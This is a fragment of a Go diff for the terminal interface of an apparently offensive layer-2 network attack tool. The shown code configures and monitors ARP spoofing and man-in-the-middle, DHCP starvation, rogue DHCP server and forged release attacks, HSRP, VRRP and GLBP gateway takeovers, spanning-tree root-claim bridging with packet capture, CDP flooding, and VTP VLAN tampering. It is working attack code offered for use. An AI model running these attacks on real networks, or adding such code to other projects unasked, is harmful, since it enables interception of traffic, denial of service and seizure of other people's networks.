+					InterfaceName: m.activeInterface,
+					Batch:         poisoner.Packets,
+					Restore:       poisoner.RestorePackets,
+					RestoreRounds: int(rounds),
+					Frequency:     interval,
+					StopChan:      stopChan,
+				}
+				break
+			}
+			if m.selectedAttack == 1 {
+				rate, _ := parseUint(m.fieldValue("ARP", "Scan Rate"), 32)
+				frequency, burst := rateToTicks(int(rate))
+				cfg = core.AttackConfig{
+					InterfaceName: m.activeInterface,
+					Generator:     scanner.Next,
+					Frequency:     frequency,
+					Burst:         burst,
+					StopChan:      stopChan,
+				}
+				break
 			}
+			packet, err = arp.CraftARPReply(m.senderMAC, net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, net.ParseIP("192.168.1.1"), net.ParseIP("192.168.1.255"))
 			cfg = core.AttackConfig{
 				InterfaceName: m.activeInterface,
 				StaticPacket:  packet,
@@ -279,46 +1011,105 @@ func (m *Model) startAttack() {
 			}
 		case "DHCP":
 			if m.selectedAttack == 0 {
-				generator := func() ([]byte, error) {
-					randomMAC, _ := utils.RandomMAC()
-					return dhcp.CraftDHCPDiscover(randomMAC)
-				}
+				rate, _ := parseUint(m.fieldValue("DHCP", "Starve Rate"), 32)
+				frequency, burst := rateToTicks(int(rate))
 				cfg = core.AttackConfig{
 					InterfaceName: m.activeInterface,
-					Generator:     generator,
-					Frequency:     200 * time.Millisecond,
+					Generator:     starver.Next,
+					Frequency:     frequency,
+					Burst:         burst,
 					StopChan:      stopChan,
 				}
-			} else {
-				packet, err = dhcp.CraftDHCPOffer(m.senderMAC, net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, net.ParseIP("192.168.1.1"), net.ParseIP("192.168.1.66"), net.ParseIP("192.168.1.1"), 0)
+				if release, _ := parseBool(m.fieldValue("DHCP", "Release on Stop")); release {
+					cfg.Restore = starver.ReleasePackets
+				}
+			}
+			if m.selectedAttack == 2 {
+				clients, server, _ := m.dhcpReleaseTargets()
 				cfg = core.AttackConfig{
 					InterfaceName: m.activeInterface,
-					StaticPacket:  packet,
-					Frequency:     1 * time.Second,
-					StopChan:      stopChan,
+					Batch: func() ([][]byte, error) {
+						known := clients
+						var serverMAC net.HardwareAddr
+						if mon != nil {
+							serverMAC, _ = mon.arp.Lookup(server)
+							if len(known) == 0 {
+								known = mon.dhcp.Bindings(server)
+							}
+						}
+						return dhcp.CraftReleases(known, server, serverMAC)
+					},
+					Frequency: 5 * time.Second,
+					StopChan:  stopChan,
+				}
+			}
+			if m.selectedAttack == 3 {
+				rate, _ := parseUint(m.fieldValue("DHCP", "Starve Rate"), 32)
+				frequency, burst := rateToTicks(int(rate))
+				cfg = core.AttackConfig{
+					InterfaceName: m.activeInterface,
+					Generator: func() ([]byte, error) {
+						randomMAC, err := utils.RandomMAC()
+						if err != nil {
+							return nil, err
+						}
+						return dhcp.CraftDHCPDiscover(randomMAC)
+					},
+					Frequency: frequency,
+					Burst:     burst,
+					StopChan:  stopChan,
 				}
 			}
+		case "GLBP":
+			cfg = core.AttackConfig{
+				InterfaceName: m.activeInterface,
+				Batch:         glbpTakeover.Packets,
+				Restore:       glbpTakeover.ResignPackets,
+				RestoreRounds: 3,
+				Frequency:     glbpTakeover.Config().Hellotime,
+				StopChan:      stopChan,
+			}
+		case "VRRP":
+			cfg = core.AttackConfig{
+				InterfaceName: m.activeInterface,
+				Batch:         vrrpTakeover.Packets,
+				Restore:       vrrpTakeover.ResignPackets,
+				RestoreRounds: 3,
+				Frequency:     vrrpTakeover.Config().Interval,
+				StopChan:      stopChan,
+			}
 		case "HSRP":
-			packet, err = hsrp.CraftHSRPState(m.senderMAC, net.ParseIP("192.168.1.1"), 255, 16, 1)
+			hsrpCfg := takeover.Config()
 			cfg = core.AttackConfig{
 				InterfaceName: m.activeInterface,
-				StaticPacket:  packet,
-				Frequency:     3 * time.Second,
+				Batch:         takeover.Packets,
+				Restore:       takeover.ResignPackets,
+				RestoreRounds: 3,
+				Frequency:     time.Duration(hsrpCfg.Hellotime) * time.Second,
 				StopChan:      stopChan,
 			}
 		}
 
 		if cfg.Generator == nil && err != nil {
-			m.addLog(fmt.Sprintf("Error creating packet: %v", err))
+			fail(fmt.Errorf("creating packet: %v", err))
 			return
 		}
 
-		if err := l2net.StartAttack(cfg); err != nil {
-			// TODO: Log error via some mechanism?
+		if err := injectAttack(cfg); err != nil {
+			fail(err)
 		}
 	}()
 }
 
+// reporter returns the function a runner calls when it gives up. The error is sent back to
+// the model, which logs it and stops the attack or forwarder owning stop.
+func (m *Model) reporter(what string, stop chan struct{}) func(error) {
+	errs := m.runnerErrs
+	return func(err error) {
+		errs <- runnerErrMsg{what: what, err: err, stop: stop}
+	}
+}
+
 func (m *Model) stopAttack() {
 	if !m.attack.Active {
 		return
@@ -409,6 +1200,7 @@ func (m Model) viewMain() string {
 		attacks := []string{
 			"Root Claim (Spoof Root Bridge)",
 			"TCN Injection (Topology Change)",
+			"Root Claim MitM (Bridge Two Interfaces)",
 		}
 		for i, atk := range attacks {
 			cursor := " "
@@ -419,12 +1211,25 @@ func (m Model) viewMain() string {
 			}
 			content += fmt.Sprintf("%s %s\n", cursor, style.Render(atk))
 		}
+		if m.selectedAttack == 2 {
+			capture := "off"
+			if m.bridgeCapture {
+				capture = "on"
+			}
+			content += fmt.Sprintf("\nBridge: %s <-> %s ('p' to change)\n", m.activeInterface, m.peerInterface())
+			content += fmt.Sprintf("Pcap capture: %s ('w' to toggle)\n", capture)
+			if m.bridge != nil {
+				st := m.bridge.Stats()
+				content += fmt.Sprintf("Forwarded: %d  Dropped: %d  Rewritten: %d  BPDUs: %d\n",
+					st.Forwarded, st.Dropped, st.Rewritten, st.BPDUsSent)
+			}
+		}
 
 	case "CDP":
 		content = "Available Attacks:\n\n"
 		attacks := []string{
-			"Neighbor Spoofing (Core Switch)",
-			"DoS Flooding (Random Neighbors)",
+			"Neighbor Spoofing (Configured Identity)",
+			"DoS Flooding (Random Identities)",
 		}
 		for i, atk := range attacks {
 			cursor := " "
@@ -435,6 +1240,13 @@ func (m Model) viewMain() string {
 			}
 			content += fmt.Sprintf("%s %s\n", cursor, style.Render(atk))
 		}
+		content += m.renderFields("CDP")
+		if m.selectedAttack == 1 && m.cdpFlood != nil {
+			content += fmt.Sprintf("\nDistinct identities emitted: ~%d\n", m.cdpFlood.Identities())
+		}
+		if m.monitor != nil {
+			content += "\n" + renderCDPNeighbors(m.monitor.cdp.Neighbors())
+		}
 
 	case "DTP":
 		content = "Available Attacks:\n\n"
@@ -452,12 +1264,43 @@ func (m Model) viewMain() string {
 			}
 			content += fmt.Sprintf("%s %s\n", cursor, style.Render(atk))
 		}
+		content += m.renderFields("DTP")
+		if m.monitor != nil && m.fieldValue("DTP", "Domain") == "auto" {
+			content += fmt.Sprintf("\nLearned domain: %q\n", m.monitor.vtpDomain())
+		}
+		if m.monitor != nil {
+			content += "\n" + renderDTPPort(m.monitor.dtp.State(), m.monitor.cdp.Neighbors(), m.monitor.vlans.VLANs())
+			content += "\n" + renderVLANs(m.monitor.vlans.VLANs())
+			content += lipgloss.NewStyle().Foreground(ColorSubText).Render("Press 'v' to create a subinterface per VLAN.") + "\n"
+		}
+
+	case "VTP":
+		content = "Available Attacks:\n\n"
+		attacks := []string{
+			"Add VLAN (Summary + Subset)",
+			"Delete VLAN (Summary + Subset)",
+		}
+		for i, atk := range attacks {
+			cursor := " "
+			style := lipgloss.NewStyle().Foreground(ColorSubText)
+			if m.selectedAttack == i {
+				cursor = ">"
+				style = lipgloss.NewStyle().Foreground(ColorText).Bold(true)
+			}
+			content += fmt.Sprintf("%s %s\n", cursor, style.Render(atk))
+		}
+		content += m.renderFields("VTP")
+		if m.monitor != nil {
+			content += "\n" + renderVTPDomains(m.monitor.vtp.Domains())
+		}
 
 	case "ARP":
 		content = "Available Attacks:\n\n"
 		attacks := []string{
 			"ARP Reply (Spoof Gateway to Broadcast)",
-			"ARP Request (Scanning/Flooding)",
+			"Subnet Scan (ARP Sweep)",
+			"Bidirectional MitM (Targets <-> Gateway)",
+			"Reactive Responder (Answer Requests)",
 		}
 		for i, atk := range attacks {
 			cursor := " "
@@ -468,6 +1311,28 @@ func (m Model) viewMain() string {
 			}
 			content += fmt.Sprintf("%s %s\n", cursor, style.Render(atk))
 		}
+		if m.selectedAttack > 0 {
+			content += m.renderFields("ARP")
+		}
+		if m.selectedAttack == 1 && m.scanner != nil {
+			sent, total := m.scanner.Progress()
+			content += fmt.Sprintf("\nSent %d/%d requests. Press 'x' to export CSV and JSON.\n", sent, total)
+			content += renderScanHosts(m.scanner.Hosts())
+		}
+		if m.selectedAttack == 2 && m.poisoner != nil {
+			content += "\n" + renderPoisonHosts(m.poisoner.Hosts())
+		}
+		if m.selectedAttack == 3 && m.responder != nil {
+			stats := m.responder.Stats()
+			content += fmt.Sprintf("\nRequests seen: %d, answered: %d\n", stats.Requests, stats.Answered)
+			if claimed := m.responder.Claimed(); len(claimed) > 0 {
+				ips := make([]string, len(claimed))
+				for i, ip := range claimed {
+					ips[i] = ip.String()
+				}
+				content += fmt.Sprintf("Claimed: %s\n", truncate(strings.Join(ips, ", "), 200))
+			}
+		}
 
 	case "LLDP":
 		content = "Available Attacks:\n\n"
@@ -487,8 +1352,10 @@ func (m Model) viewMain() string {
 	case "DHCP":
 		content = "Available Attacks:\n\n"
 		attacks := []string{
-			"Starvation (Randomized Discovers)",
-			"Rogue Offer (Static Offer 192.168.1.66)",
+			"Starvation (Full DORA, Tracked Leases)",
+			"Rogue Server (Answer DISCOVER/REQUEST)",
+			"Release Known Clients (DHCPRELEASE)",
+			"Decline Every Offer (Quarantine Pool)",
 		}
 		for i, atk := range attacks {
 			cursor := " "
@@ -499,11 +1366,52 @@ func (m Model) viewMain() string {
 			}
 			content += fmt.Sprintf("%s %s\n", cursor, style.Render(atk))
 		}
+		content += m.renderFields("DHCP")
+		if m.selectedAttack == 0 && m.starver != nil {
+			content += "\n" + renderStarvation(m.starver.Stats(), m.starver.Stalled(time.Now()), m.starver.Leases())
+		}
+		if m.selectedAttack == 3 && m.decliner != nil {
+			content += "\n" + renderDeclined(m.decliner.Offers(), m.decliner.Declined())
+		}
+		if m.selectedAttack == 1 && m.dhcpServer != nil {
+			content += "\n" + renderDHCPServer(m.dhcpServer.Stats(), m.dhcpServer.Leases())
+		}
+		if m.monitor != nil {
+			trusted, _ := parseIPList(m.fieldValue("DHCP", "Trusted Servers"))
+			content += "\n" + renderDHCPInventory(m.monitor.dhcp.Clients(), m.monitor.dhcp.Servers(trusted))
+		}
 
 	case "HSRP":
 		content = "Available Attacks:\n\n"
 		attacks := []string{
-			"Active Router Takeover (Priority 255)",
+			"Active Router Takeover (Learned Group)",
+		}
+		for i, atk := range attacks {
+			cursor := " "
+			style := lipgloss.NewStyle().Foreground(ColorSubText)
+			if m.selectedAttack == i {
+				cursor = ">"
+				style = lipgloss.NewStyle().Foreground(ColorText).Bold(true)
+			}
+			content += fmt.Sprintf("%s %s\n", cursor, style.Render(atk))
+		}
+		content += m.renderFields("HSRP")
+		if m.hsrpTakeover != nil {
+			hellos, coups := m.hsrpTakeover.Counts()
+			tc := m.hsrpTakeover.Config()
+			content += fmt.Sprintf("\nCoups: %d, hellos: %d from %s, virtual MAC %s\n", coups, hellos, tc.SourceIP, tc.VirtualMAC())
+		}
+		if m.gateway != nil {
+			content += "\n" + renderGatewayVictims(m.gateway.Stats(), m.gateway.Victims())
+		}
+		if m.monitor != nil {
+			content += "\n" + renderHSRPGroups(m.monitor.hsrp.Groups())
+		}
+
+	case "VRRP":
+		content = "Available Attacks:\n\n"
+		attacks := []string{
+			"Master Takeover (Priority 255)",
 		}
 		for i, atk := range attacks {
 			cursor := " "
@@ -514,6 +1422,51 @@ func (m Model) viewMain() string {
 			}
 			content += fmt.Sprintf("%s %s\n", cursor, style.Render(atk))
 		}
+		content += m.renderFields("VRRP")
+		if m.vrrpTakeover != nil {
+			tc := m.vrrpTakeover.Config()
+			content += fmt.Sprintf("\nAdvertisements: %d from %s, virtual MAC %s\n", m.vrrpTakeover.Sent(), tc.SourceIP, tc.VirtualMAC())
+		}
+		if m.gateway != nil {
+			content += "\n" + renderGatewayVictims(m.gateway.Stats(), m.gateway.Victims())
+		}
+		if m.monitor != nil {
+			content += "\n" + renderVRRPGroups(m.monitor.vrrp.Groups())
+		}
+
+	case "GLBP":
+		content = "Available Attacks:\n\n"
+		attacks := []string{
+			"AVG Takeover (Learned Group)",
+		}
+		for i, atk := range attacks {
+			cursor := " "
+			style := lipgloss.NewStyle().Foreground(ColorSubText)
+			if m.selectedAttack == i {
+				cursor = ">"
+				style = lipgloss.NewStyle().Foreground(ColorText).Bold(true)
+			}
+			content += fmt.Sprintf("%s %s\n", cursor, style.Render(atk))
+		}
+		content += m.renderFields("GLBP")
+		if m.glbpTakeover != nil {
+			tc := m.glbpTakeover.Config()
+			content += fmt.Sprintf("\nHellos: %d from %s", m.glbpTakeover.Sent(), tc.SourceIP)
+			if tc.Forwarder != 0 {
+				content += fmt.Sprintf(", forwarder %d at %s", tc.Forwarder, glbp.VirtualMAC(tc.Group, tc.Forwarder))
+			}
+			content += "\n"
+		}
+		if m.gateway != nil {
+			content += "\n" + renderGatewayVictims(m.gateway.Stats(), m.gateway.Victims())
+		}
+		if m.monitor != nil {
+			content += "\n" + renderGLBPGroups(m.monitor.glbp.Groups())
+		}
+	}
+
+	if m.forwarder != nil {
+		content += "\n" + renderForwarding(m.forwardMode, m.forwarder.Stats(), m.forwarder.Hosts())
 	}
 
 	status := ""